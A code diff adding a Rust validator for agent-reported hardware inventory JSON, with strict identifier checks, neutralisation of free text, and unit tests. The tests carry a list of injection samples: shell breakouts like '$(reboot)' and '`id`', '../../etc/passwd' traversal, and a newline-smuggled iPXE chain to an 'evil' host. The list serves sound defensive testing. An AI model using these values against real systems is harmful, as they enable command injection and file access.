@@ -1,0 +1,794 @@
+//! Validation of an agent's answer: untrusted bytes in, a [`DiscoveredHost`]
+//! out, or a [`Rejection`] naming the field and the (escaped, truncated)
+//! offending value.
+//!
+//! Three layers:
+//! 1. Generic, over the raw JSON tree: every string anywhere is at most
+//!    [`MAX_STRING_CHARS`] characters and free of control characters (NUL,
+//!    newline, ESC...); every array holds at most [`MAX_LIST_LEN`] entries;
+//!    `schema_version` equals [`agent::SCHEMA_VERSION`].
+//! 2. Identifier fields (NIC names, MACs, disk names and paths, UUID, IP
+//!    addresses, CPU flags, driver, PCI address, WWN, HCTL...) must match a
+//!    strict charset or parse as their typed value; otherwise the host is
+//!    rejected. Sizes must be sane.
+//! 3. Free-text fields (vendor, model, serials, warnings, LLDP names...) are
+//!    *neutralised*: every character outside [`is_free_text_char`] becomes
+//!    `_`, so `${x}`, `"; reboot` or backticks can never reach a template or
+//!    a shell verbatim. The exact bytes stay in `raw_json` for audit.
+//!
+//! Host name policy: an invalid `hostname` does **not** reject the host (it
+//! is only a hint; Harmony assigns names itself). It is dropped (`None`) and
+//! a warning `{source: "harmony", message: "hostname dropped: <rule>"}` is
+//! added, without the offending value.
+
+use std::net::IpAddr;
+use std::str::FromStr;
+
+use harmony_inventory_agent::model as agent;
+use serde_json::Value;
+
+use crate::domain::inventory::DiscoveredHost;
+use crate::domain::values::{HostId, Hostname, InterfaceName, MacAddress};
+
+/// Longest string accepted anywhere in the document, in characters.
+pub const MAX_STRING_CHARS: usize = 256;
+/// Longest array accepted anywhere in the document (disks, NICs, DIMMs...).
+pub const MAX_LIST_LEN: usize = 4096;
+/// How much of an offending value a [`Rejection`] keeps.
+const SHOWN_CHARS: usize = 64;
+
+/// Why a peer's answer was not accepted.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum Rejection {
+    #[error("invalid JSON: {0}")]
+    Json(String),
+    #[error("schema_version {found}, expected {expected}")]
+    SchemaVersion { found: String, expected: u32 },
+    #[error("{field}: {count} entries, at most {max}")]
+    TooMany {
+        field: String,
+        count: usize,
+        max: usize,
+    },
+    #[error("{field} = \"{value}\": {reason}")]
+    Invalid {
+        field: String,
+        /// Escaped (`char::escape_debug`) and truncated copy of the value.
+        value: String,
+        reason: String,
+    },
+    #[error("no identity: no valid UUID, serial or MAC address")]
+    NoIdentity,
+    #[error("HTTP status {0}")]
+    Status(u16),
+    #[error("response body larger than {0} bytes")]
+    TooLarge(usize),
+    #[error("no complete answer within {0:?}")]
+    Timeout(std::time::Duration),
+    #[error("HTTP exchange failed: {0}")]
+    Http(String),
+}
+
+impl Rejection {
+    fn invalid(field: impl Into<String>, value: &str, reason: impl Into<String>) -> Self {
+        Rejection::Invalid {
+            field: field.into(),
+            value: escape(value),
+            reason: reason.into(),
+        }
+    }
+
+    /// The field a value rejection names, if any.
+    pub fn field(&self) -> Option<&str> {
+        match self {
+            Rejection::Invalid { field, .. } | Rejection::TooMany { field, .. } => Some(field),
+            _ => None,
+        }
+    }
+}
+
+/// Escaped, truncated copy of an untrusted value, safe to log or display.
+pub fn escape(value: &str) -> String {
+    let mut out: String = value
+        .chars()
+        .take(SHOWN_CHARS)
+        .flat_map(char::escape_debug)
+        .collect();
+    if value.chars().nth(SHOWN_CHARS).is_some() {
+        out.push_str("...");
+    }
+    out
+}
+
+/// Characters kept as-is in free-text fields; everything else becomes `_`.
+pub fn is_free_text_char(c: char) -> bool {
+    c.is_ascii_alphanumeric()
+        || matches!(
+            c,
+            ' ' | '.' | ',' | ':' | '/' | '(' | ')' | '@' | '+' | '%' | '=' | '_' | '-'
+        )
+}
+
+/// Replaces every character outside [`is_free_text_char`] with `_`.
+pub fn neutralise(s: &str) -> String {
+    s.chars()
+        .map(|c| if is_free_text_char(c) { c } else { '_' })
+        .collect()
+}
+
+/// Parses and validates one agent answer served by `ip`.
+pub fn validate(ip: IpAddr, raw: &[u8]) -> Result<DiscoveredHost, Rejection> {
+    let tree: Value = serde_json::from_slice(raw).map_err(|e| Rejection::Json(e.to_string()))?;
+    let Value::Object(map) = &tree else {
+        return Err(Rejection::Json("top level is not an object".into()));
+    };
+    match map.get("schema_version") {
+        Some(Value::Number(n)) if n.as_u64() == Some(u64::from(agent::SCHEMA_VERSION)) => {}
+        other => {
+            let found = other.map_or_else(|| "missing".to_string(), |v| escape(&v.to_string()));
+            return Err(Rejection::SchemaVersion {
+                found,
+                expected: agent::SCHEMA_VERSION,
+            });
+        }
+    }
+    check_tree(&tree, &mut String::from("$"))?;
+    let mut inv: agent::Inventory =
+        serde_json::from_value(tree).map_err(|e| Rejection::Json(e.to_string()))?;
+
+    check_inventory(&mut inv)?;
+    let macs = identity_macs(&inv)?;
+    let id = host_id(&inv, &macs)?;
+    Ok(DiscoveredHost {
+        id,
+        ip,
+        macs,
+        inventory: inv,
+        raw_json: raw.to_vec(),
+    })
+}
+
+/// Layer 1: bounds every string and array of the tree, whatever its field.
+fn check_tree(v: &Value, path: &mut String) -> Result<(), Rejection> {
+    match v {
+        Value::String(s) => check_string(path, s),
+        Value::Array(items) => {
+            if items.len() > MAX_LIST_LEN {
+                return Err(Rejection::TooMany {
+                    field: path.clone(),
+                    count: items.len(),
+                    max: MAX_LIST_LEN,
+                });
+            }
+            for (i, item) in items.iter().enumerate() {
+                let len = path.len();
+                path.push_str(&format!("[{i}]"));
+                check_tree(item, path)?;
+                path.truncate(len);
+            }
+            Ok(())
+        }
+        Value::Object(map) => {
+            if map.len() > MAX_LIST_LEN {
+                return Err(Rejection::TooMany {
+                    field: path.clone(),
+                    count: map.len(),
+                    max: MAX_LIST_LEN,
+                });
+            }
+            for (key, item) in map {
+                check_string(&format!("{path} (key)"), key)?;
+                let len = path.len();
+                path.push('.');
+                path.push_str(key);
+                check_tree(item, path)?;
+                path.truncate(len);
+            }
+            Ok(())
+        }
+        Value::Null | Value::Bool(_) | Value::Number(_) => Ok(()),
+    }
+}
+
+fn check_string(field: &str, s: &str) -> Result<(), Rejection> {
+    if s.chars().count() > MAX_STRING_CHARS {
+        return Err(Rejection::invalid(
+            field,
+            s,
+            format!("longer than {MAX_STRING_CHARS} characters"),
+        ));
+    }
+    if s.chars().any(char::is_control) {
+        return Err(Rejection::invalid(field, s, "contains control characters"));
+    }
+    Ok(())
+}
+
+/// `[A-Za-z0-9]` plus `extra`, 1.. characters.
+fn charset(field: &str, s: &str, extra: &str) -> Result<(), Rejection> {
+    if s.is_empty() {
+        return Err(Rejection::invalid(field, s, "empty"));
+    }
+    if !s
+        .chars()
+        .all(|c| c.is_ascii_alphanumeric() || extra.contains(c))
+    {
+        return Err(Rejection::invalid(
+            field,
+            s,
+            format!("only letters, digits and {extra:?} are allowed"),
+        ));
+    }
+    Ok(())
+}
+
+fn opt_charset(field: &str, s: &Option<String>, extra: &str) -> Result<(), Rejection> {
+    s.as_deref().map_or(Ok(()), |s| charset(field, s, extra))
+}
+
+fn neutralise_opt(s: &mut Option<String>) {
+    if let Some(v) = s {
+        *v = neutralise(v);
+    }
+}
+
+fn at_most<T: PartialOrd + Copy + std::fmt::Display>(
+    field: &str,
+    v: Option<T>,
+    max: T,
+) -> Result<(), Rejection> {
+    match v {
+        Some(x) if x > max => Err(Rejection::invalid(
+            field,
+            &x.to_string(),
+            format!("larger than {max}"),
+        )),
+        _ => Ok(()),
+    }
+}
+
+/// `/dev/NAME` with NAME a safe single component.
+fn dev_path(field: &str, s: &str) -> Result<(), Rejection> {
+    let Some(name) = s.strip_prefix("/dev/") else {
+        return Err(Rejection::invalid(field, s, "must start with /dev/"));
+    };
+    component(field, s, name)
+}
+
+/// `/dev/disk/by-KIND/LINK` with LINK a safe single component.
+fn by_link(field: &str, s: &str, kind: &str) -> Result<(), Rejection> {
+    let prefix = format!("/dev/disk/by-{kind}/");
+    let Some(link) = s.strip_prefix(prefix.as_str()) else {
+        return Err(Rejection::invalid(
+            field,
+            s,
+            format!("must start with {prefix}"),
+        ));
+    };
+    if link.is_empty()
+        || link == "."
+        || link == ".."
+        || !link
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | ':' | '+' | '@'))
+    {
+        return Err(Rejection::invalid(
+            field,
+            s,
+            "link name must be of [A-Za-z0-9._:+@-], not . or ..",
+        ));
+    }
+    Ok(())
+}
+
+fn component(field: &str, whole: &str, name: &str) -> Result<(), Rejection> {
+    if name.is_empty()
+        || name == "."
+        || name == ".."
+        || name.len() > 64
+        || !name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
+    {
+        return Err(Rejection::invalid(
+            field,
+            whole,
+            "name must be 1 to 64 of [A-Za-z0-9._-], not . or ..",
+        ));
+    }
+    Ok(())
+}
+
+/// A MAC as reported: syntax errors reject the host; a well-formed but
+/// unusable address (all-zero, multicast) is dropped.
+fn mac(field: &str, s: &mut Option<String>) -> Result<Option<MacAddress>, Rejection> {
+    let Some(raw) = s.as_deref() else {
+        return Ok(None);
+    };
+    let well_formed = raw.len() == 17
+        && raw.bytes().enumerate().all(|(i, b)| {
+            if i % 3 == 2 {
+                b == b':' || b == b'-'
+            } else {
+                b.is_ascii_hexdigit()
+            }
+        });
+    if !well_formed {
+        return Err(Rejection::invalid(field, raw, "not a MAC address"));
+    }
+    match MacAddress::from_str(raw) {
+        Ok(m) => {
+            *s = Some(m.to_string());
+            Ok(Some(m))
+        }
+        Err(_) => {
+            *s = None;
+            Ok(None)
+        }
+    }
+}
+
+/// Layers 2 and 3 on the typed document.
+fn check_inventory(inv: &mut agent::Inventory) -> Result<(), Rejection> {
+    inv.agent_version = neutralise(&inv.agent_version);
+    inv.collected_at = neutralise(&inv.collected_at);
+    for w in &mut inv.warnings {
+        w.source = neutralise(&w.source);
+        w.message = neutralise(&w.message);
+    }
+    if let Some(h) = inv.hostname.take() {
+        match Hostname::from_str(&h) {
+            Ok(name) => inv.hostname = Some(name.to_string()),
+            Err(e) => inv.warnings.push(agent::Warning {
+                source: "harmony".into(),
+                message: format!("hostname dropped: {}", e.reason),
+            }),
+        }
+    }
+
+    let s = &mut inv.system;
+    neutralise_opt(&mut s.vendor);
+    neutralise_opt(&mut s.product);
+    neutralise_opt(&mut s.serial);
+    neutralise_opt(&mut s.family);
+    neutralise_opt(&mut s.hypervisor);
+    if let Some(u) = s.uuid.as_deref() {
+        HostId::from_uuid(u).map_err(|e| Rejection::invalid("system.uuid", u, e.reason))?;
+    }
+    if let Some(b) = s.bmc_address.as_deref() {
+        IpAddr::from_str(b)
+            .map_err(|_| Rejection::invalid("system.bmc_address", b, "not an IP address"))?;
+    }
+
+    let c = &mut inv.cpu;
+    neutralise_opt(&mut c.model);
+    neutralise_opt(&mut c.vendor);
+    at_most("cpu.sockets", c.sockets, 1024)?;
+    at_most("cpu.cores", c.cores, 1 << 20)?;
+    at_most("cpu.threads", c.threads, 1 << 20)?;
+    if let Some(mhz) = c.mhz
+        && (!mhz.is_finite() || !(0.0..=1.0e6).contains(&mhz))
+    {
+        return Err(Rejection::invalid(
+            "cpu.mhz",
+            &mhz.to_string(),
+            "not a sane frequency",
+        ));
+    }
+    for (i, f) in c.flags.iter().enumerate() {
+        charset(&format!("cpu.flags[{i}]"), f, "_")?;
+    }
+
+    let m = &mut inv.memory;
+    at_most("memory.total_bytes", m.total_bytes, 1 << 56)?;
+    at_most("memory.smbios_total_bytes", m.smbios_total_bytes, 1 << 56)?;
+    for (i, d) in m.dimms.iter_mut().enumerate() {
+        at_most(
+            &format!("memory.dimms[{i}].size_bytes"),
+            d.size_bytes,
+            1 << 46,
+        )?;
+        at_most(
+            &format!("memory.dimms[{i}].speed_mts"),
+            d.speed_mts,
+            1 << 20,
+        )?;
+        for f in [
+            &mut d.locator,
+            &mut d.bank,
+            &mut d.memory_type,
+            &mut d.manufacturer,
+            &mut d.serial,
+            &mut d.part_number,
+        ] {
+            neutralise_opt(f);
+        }
+    }
+
+    for (i, d) in inv.storage.iter_mut().enumerate() {
+        let p = format!("storage[{i}]");
+        component(&format!("{p}.name"), &d.name, &d.name)?;
+        dev_path(&format!("{p}.path"), &d.path)?;
+        if let Some(l) = d.by_path.as_deref() {
+            by_link(&format!("{p}.by_path"), l, "path")?;
+        }
+        if let Some(l) = d.by_id.as_deref() {
+            by_link(&format!("{p}.by_id"), l, "id")?;
+        }
+        opt_charset(&format!("{p}.wwn"), &d.wwn, ".:_-")?;
+        opt_charset(&format!("{p}.transport"), &d.transport, "_-")?;
+        opt_charset(&format!("{p}.hctl"), &d.hctl, ":")?;
+        at_most(&format!("{p}.size_bytes"), d.size_bytes, 1 << 60)?;
+        for (f, v) in [
+            ("logical_sector_bytes", d.logical_sector_bytes),
+            ("physical_sector_bytes", d.physical_sector_bytes),
+        ] {
+            if let Some(b) = v
+                && (!b.is_power_of_two() || !(256..=1 << 20).contains(&b))
+            {
+                return Err(Rejection::invalid(
+                    format!("{p}.{f}"),
+                    &b.to_string(),
+                    "not a sane sector size",
+                ));
+            }
+        }
+        neutralise_opt(&mut d.model);
+        neutralise_opt(&mut d.vendor);
+        neutralise_opt(&mut d.serial);
+    }
+
+    for (i, n) in inv.network.iter_mut().enumerate() {
+        let p = format!("network[{i}]");
+        InterfaceName::from_str(&n.name)
+            .map_err(|e| Rejection::invalid(format!("{p}.name"), &n.name, e.reason))?;
+        mac(&format!("{p}.mac"), &mut n.mac)?;
+        mac(&format!("{p}.permanent_mac"), &mut n.permanent_mac)?;
+        if let Some(m) = n.master.as_deref() {
+            InterfaceName::from_str(m)
+                .map_err(|e| Rejection::invalid(format!("{p}.master"), m, e.reason))?;
+        }
+        opt_charset(&format!("{p}.operstate"), &n.operstate, "_-")?;
+        opt_charset(&format!("{p}.driver"), &n.driver, "._-")?;
+        opt_charset(&format!("{p}.pci_address"), &n.pci_address, ":.")?;
+        at_most(&format!("{p}.mtu"), n.mtu, 1 << 20)?;
+        at_most(&format!("{p}.speed_mbps"), n.speed_mbps, 10_000_000)?;
+        for (j, a) in n.ipv4.iter().chain(n.ipv6.iter()).enumerate() {
+            ipnetwork::IpNetwork::from_str(a).map_err(|_| {
+                Rejection::invalid(format!("{p}.ipv4/ipv6[{j}]"), a, "not an address/prefix")
+            })?;
+        }
+        if let Some(l) = &mut n.lldp {
+            neutralise_opt(&mut l.chassis_id);
+            neutralise_opt(&mut l.port_id);
+            neutralise_opt(&mut l.system_name);
+            neutralise_opt(&mut l.port_description);
+        }
+    }
+    Ok(())
+}
+
+/// Permanent (else current) MACs of the physical NICs; when the host has no
+/// physical NIC with a MAC (containers, VMs on veth), those of all NICs.
+fn identity_macs(inv: &agent::Inventory) -> Result<Vec<MacAddress>, Rejection> {
+    let pick = |physical_only: bool| -> Vec<MacAddress> {
+        let mut v: Vec<MacAddress> = inv
+            .network
+            .iter()
+            .filter(|n| !physical_only || !n.is_virtual)
+            .filter_map(|n| n.permanent_mac.as_deref().or(n.mac.as_deref()))
+            .filter_map(|m| MacAddress::from_str(m).ok())
+            .collect();
+        v.sort();
+        v.dedup();
+        v
+    };
+    let physical = pick(true);
+    Ok(if physical.is_empty() {
+        pick(false)
+    } else {
+        physical
+    })
+}
+
+/// UUID, else serial, else the sorted MACs.
+fn host_id(inv: &agent::Inventory, macs: &[MacAddress]) -> Result<HostId, Rejection> {
+    if let Some(u) = inv.system.uuid.as_deref()
+        && let Ok(id) = HostId::from_uuid(u)
+    {
+        return Ok(id);
+    }
+    if let Some(s) = inv.system.serial.as_deref()
+        && let Ok(id) = HostId::from_serial(s)
+    {
+        return Ok(id);
+    }
+    HostId::from_macs(macs).map_err(|_| Rejection::NoIdentity)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::net::Ipv4Addr;
+
+    const IP: IpAddr = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 10));
+
+    const INJECTIONS: &[&str] = &[
+        "\"; reboot",
+        "\n#!ipxe",
+        "${root}",
+        "a\0b",
+        "`id`",
+        "$(reboot)",
+        "../../etc/passwd",
+        "eth0\nchain http://evil/",
+    ];
+
+    /// A full document with every optional string set.
+    pub(crate) fn full_doc() -> Value {
+        serde_json::json!({
+            "schema_version": agent::SCHEMA_VERSION,
+            "agent_version": "0.1.0",
+            "collected_at": "2026-11-25T10:00:00Z",
+            "hostname": "node-1.example.com",
+            "warnings": [{"source": "lldp", "message": "no neighbour on eno2"}],
+            "system": {
+                "vendor": "Dell Inc.", "product": "PowerEdge R640", "serial": "7XYZ123",
+                "uuid": "4c4c4544-0042-3010-8052-b4c04f4a4e32", "family": "PowerEdge",
+                "boot_mode": "uefi", "bmc_address": "192.0.2.200", "hypervisor": "kvm"
+            },
+            "cpu": {"model": "Intel(R) Xeon(R) Gold 6130", "vendor": "GenuineIntel",
+                    "sockets": 2, "cores": 32, "threads": 64, "mhz": 2100.0,
+                    "flags": ["vmx", "aes", "avx2"]},
+            "memory": {"total_bytes": 68719476736u64, "smbios_total_bytes": 68719476736u64,
+                "dimms": [{"locator": "A1", "bank": "Bank 0", "size_bytes": 17179869184u64,
+                  "type": "DDR4", "speed_mts": 2666, "manufacturer": "Samsung",
+                  "serial": "12345678", "part_number": "M393A2K43BB1-CTD"}]},
+            "storage": [{"name": "nvme0n1", "path": "/dev/nvme0n1",
+                "by_path": "/dev/disk/by-path/pci-0000:3b:00.0-nvme-1",
+                "by_id": "/dev/disk/by-id/nvme-eui.0025385b71b0a1b2",
+                "model": "Samsung SSD 970", "vendor": "Samsung", "serial": "S4EWNX0R1",
+                "wwn": "eui.0025385b71b0a1b2", "size_bytes": 1000204886016u64,
+                "logical_sector_bytes": 512, "physical_sector_bytes": 512,
+                "rotational": false, "removable": false, "kind": "nvme",
+                "transport": "nvme", "hctl": "0:0:0:0"}],
+            "network": [{"name": "eno1", "mac": "52:54:00:aa:bb:01",
+                "permanent_mac": "52:54:00:aa:bb:01", "speed_mbps": 10000, "carrier": true,
+                "operstate": "up", "mtu": 1500, "driver": "i40e", "pci_address": "0000:3b:00.0",
+                "is_virtual": false, "master": "bond0", "ipv4": ["192.0.2.10/24"],
+                "ipv6": ["fe80::1/64"],
+                "lldp": {"chassis_id": "00:11:22:33:44:55", "port_id": "Ethernet1/1",
+                         "system_name": "leaf-1", "port_description": "uplink"}}]
+        })
+    }
+
+    fn doc_bytes(v: &Value) -> Vec<u8> {
+        serde_json::to_vec(v).unwrap()
+    }
+
+    /// JSON pointers of every string leaf.
+    fn string_pointers(v: &Value, at: String, out: &mut Vec<String>) {
+        match v {
+            Value::String(_) => out.push(at),
+            Value::Array(a) => {
+                for (i, x) in a.iter().enumerate() {
+                    string_pointers(x, format!("{at}/{i}"), out);
+                }
+            }
+            Value::Object(m) => {
+                for (k, x) in m {
+                    string_pointers(x, format!("{at}/{k}"), out);
+                }
+            }
+            _ => {}
+        }
+    }
+
+    #[test]
+    fn accepts_a_good_document() {
+        let h = validate(IP, &doc_bytes(&full_doc())).unwrap();
+        assert_eq!(h.id.as_str(), "uuid:4c4c4544-0042-3010-8052-b4c04f4a4e32");
+        assert_eq!(h.macs, vec!["52:54:00:aa:bb:01".parse().unwrap()]);
+        assert_eq!(h.inventory.hostname.as_deref(), Some("node-1.example.com"));
+        assert_eq!(
+            h.inventory.cpu.model.as_deref(),
+            Some("Intel(R) Xeon(R) Gold 6130")
+        );
+        assert_eq!(h.ip, IP);
+    }
+
+    #[test]
+    fn identity_falls_back_uuid_serial_macs() {
+        let mut d = full_doc();
+        d["system"]["uuid"] = Value::Null;
+        assert_eq!(
+            validate(IP, &doc_bytes(&d)).unwrap().id.as_str(),
+            "serial:7XYZ123"
+        );
+        d["system"]["serial"] = "To Be Filled By O.E.M.".into();
+        let mut nic2 = d["network"][0].clone();
+        nic2["name"] = "eno2".into();
+        nic2["mac"] = "52:54:00:aa:bb:00".into();
+        nic2["permanent_mac"] = Value::Null;
+        d["network"].as_array_mut().unwrap().push(nic2);
+        assert_eq!(
+            validate(IP, &doc_bytes(&d)).unwrap().id.as_str(),
+            "macs:52:54:00:aa:bb:00,52:54:00:aa:bb:01"
+        );
+        d["network"] = serde_json::json!([]);
+        assert_eq!(
+            validate(IP, &doc_bytes(&d)).unwrap_err(),
+            Rejection::NoIdentity
+        );
+    }
+
+    #[test]
+    fn rejects_bad_json_and_schema() {
+        assert!(matches!(
+            validate(IP, b"{not json"),
+            Err(Rejection::Json(_))
+        ));
+        assert!(matches!(validate(IP, b"[1,2]"), Err(Rejection::Json(_))));
+        let mut d = full_doc();
+        d["schema_version"] = 2.into();
+        assert!(matches!(
+            validate(IP, &doc_bytes(&d)),
+            Err(Rejection::SchemaVersion { found, .. }) if found == "2"
+        ));
+        d.as_object_mut().unwrap().remove("schema_version");
+        assert!(matches!(
+            validate(IP, &doc_bytes(&d)),
+            Err(Rejection::SchemaVersion { .. })
+        ));
+        let mut d = full_doc();
+        d["storage"] = Value::Null;
+        assert!(matches!(
+            validate(IP, &doc_bytes(&d)),
+            Err(Rejection::Json(_))
+        ));
+    }
+
+    #[test]
+    fn caps_list_lengths_and_sizes() {
+        let mut d = full_doc();
+        let nic = d["network"][0].clone();
+        d["network"] = Value::Array(vec![nic; MAX_LIST_LEN + 1]);
+        let e = validate(IP, &doc_bytes(&d)).unwrap_err();
+        assert_eq!(e.field(), Some("$.network"), "{e}");
+        let mut d = full_doc();
+        d["storage"][0]["size_bytes"] = serde_json::json!(u64::MAX);
+        assert_eq!(
+            validate(IP, &doc_bytes(&d)).unwrap_err().field(),
+            Some("storage[0].size_bytes")
+        );
+        let mut d = full_doc();
+        d["storage"][0]["logical_sector_bytes"] = 3.into();
+        assert!(validate(IP, &doc_bytes(&d)).is_err());
+        let mut d = full_doc();
+        d["memory"]["dimms"][0]["size_bytes"] = serde_json::json!(u64::MAX);
+        assert!(validate(IP, &doc_bytes(&d)).is_err());
+    }
+
+    /// Every string field, every injection: either the host is rejected, or
+    /// no dangerous character survives anywhere in the accepted document.
+    #[test]
+    fn injection_in_every_string_field_is_rejected_or_neutralised() {
+        let base = full_doc();
+        let mut pointers = Vec::new();
+        string_pointers(&base, String::new(), &mut pointers);
+        assert!(pointers.len() > 40, "{}", pointers.len());
+        let long = "x".repeat(300);
+        let mut payloads: Vec<&str> = INJECTIONS.to_vec();
+        payloads.push(&long);
+        for ptr in &pointers {
+            for bad in &payloads {
+                let mut d = base.clone();
+                *d.pointer_mut(ptr).unwrap() = Value::String((*bad).to_string());
+                match validate(IP, &doc_bytes(&d)) {
+                    Err(e) => {
+                        let shown = e.to_string();
+                        assert!(!shown.contains('\n') && !shown.contains('\0'), "{shown}");
+                        assert!(shown.len() < 400, "{ptr}: {shown}");
+                    }
+                    Ok(h) => {
+                        let v = serde_json::to_value(&h.inventory).unwrap();
+                        let mut leaves = Vec::new();
+                        string_pointers(&v, String::new(), &mut leaves);
+                        for l in &leaves {
+                            let s = v.pointer(l).unwrap().as_str().unwrap();
+                            for c in ['$', ';', '`', '"', '\\', '\n', '\0', '{', '}', '#'] {
+                                assert!(!s.contains(c), "{ptr} <- {bad:?}: {l} = {s:?}");
+                            }
+                            assert!(s.chars().count() <= MAX_STRING_CHARS);
+                        }
+                    }
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn identifier_fields_reject_injections() {
+        let fields = [
+            ("/network/0/name", "network[0].name"),
+            ("/network/0/mac", "network[0].mac"),
+            ("/network/0/permanent_mac", "network[0].permanent_mac"),
+            ("/network/0/master", "network[0].master"),
+            ("/network/0/driver", "network[0].driver"),
+            ("/network/0/operstate", "network[0].operstate"),
+            ("/network/0/pci_address", "network[0].pci_address"),
+            ("/network/0/ipv4/0", "network[0].ipv4/ipv6[0]"),
+            ("/storage/0/name", "storage[0].name"),
+            ("/storage/0/path", "storage[0].path"),
+            ("/storage/0/by_id", "storage[0].by_id"),
+            ("/storage/0/by_path", "storage[0].by_path"),
+            ("/storage/0/wwn", "storage[0].wwn"),
+            ("/storage/0/transport", "storage[0].transport"),
+            ("/storage/0/hctl", "storage[0].hctl"),
+            ("/system/uuid", "system.uuid"),
+            ("/system/bmc_address", "system.bmc_address"),
+            ("/cpu/flags/0", "cpu.flags[0]"),
+        ];
+        for (ptr, field) in fields {
+            for bad in ["\"; reboot", "${root}", "x y", "../x", "a/b;c"] {
+                let mut d = full_doc();
+                *d.pointer_mut(ptr).unwrap() = bad.into();
+                let e = validate(IP, &doc_bytes(&d)).unwrap_err();
+                assert_eq!(e.field(), Some(field), "{ptr} <- {bad:?}: {e}");
+            }
+        }
+        // Control characters are caught before, with the JSON path.
+        let mut d = full_doc();
+        d["network"][0]["name"] = "eth0\n#!ipxe".into();
+        let e = validate(IP, &doc_bytes(&d)).unwrap_err();
+        assert_eq!(e.field(), Some("$.network[0].name"));
+        assert!(e.to_string().contains("eth0\\n#!ipxe"), "escaped: {e}");
+        // Paths outside their directory.
+        for (ptr, bad) in [
+            ("/storage/0/path", "/etc/passwd"),
+            ("/storage/0/path", "/dev/../etc"),
+            ("/storage/0/by_id", "/dev/disk/by-id/../../sda"),
+            ("/storage/0/by_path", "/dev/disk/by-id/x"),
+        ] {
+            let mut d = full_doc();
+            *d.pointer_mut(ptr).unwrap() = bad.into();
+            assert!(validate(IP, &doc_bytes(&d)).is_err(), "{ptr} <- {bad}");
+        }
+    }
+
+    #[test]
+    fn bad_hostname_is_dropped_with_a_warning() {
+        for bad in ["\"; reboot", "${x}", "a_b", "-x", &"h".repeat(64)] {
+            let mut d = full_doc();
+            d["hostname"] = bad.into();
+            let h = validate(IP, &doc_bytes(&d)).unwrap();
+            assert_eq!(h.inventory.hostname, None, "{bad}");
+            let w = h.inventory.warnings.last().unwrap();
+            assert_eq!(w.source, "harmony");
+            assert!(w.message.starts_with("hostname dropped"));
+            assert!(!w.message.contains(bad));
+        }
+    }
+
+    #[test]
+    fn free_text_is_neutralised() {
+        let mut d = full_doc();
+        d["system"]["vendor"] = "${root} \"; reboot `id`".into();
+        let h = validate(IP, &doc_bytes(&d)).unwrap();
+        assert_eq!(
+            h.inventory.system.vendor.as_deref(),
+            Some("__root_ __ reboot _id_")
+        );
+        // The raw bytes are kept verbatim for audit.
+        assert_eq!(h.raw_json, doc_bytes(&d));
+    }
+
+    #[test]
+    fn zero_mac_is_dropped_not_fatal() {
+        let mut d = full_doc();
+        d["network"][0]["permanent_mac"] = "00:00:00:00:00:00".into();
+        let h = validate(IP, &doc_bytes(&d)).unwrap();
+        assert_eq!(h.inventory.network[0].permanent_mac, None);
+        assert_eq!(h.macs, vec!["52:54:00:aa:bb:01".parse().unwrap()]);
+    }
+}
